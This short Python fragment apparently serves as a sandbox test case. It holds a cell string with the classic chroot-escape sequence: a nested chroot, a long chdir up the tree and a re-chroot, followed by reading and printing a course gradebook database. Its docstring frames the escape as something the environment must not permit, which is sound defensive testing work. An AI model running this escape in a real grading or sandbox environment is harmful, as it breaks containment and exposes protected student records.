"""Leaves a changed root by the way that root has, a second `chroot` below the first; it must not be given one."""

CELL = """
os.chroot(tempfile.mkdtemp())
os.chdir("../" * 40)
os.chroot(".")
print("ESCAPED", open(COURSE + "/gradebook.db").read())
"""
DEPENDS = "whether one is root"
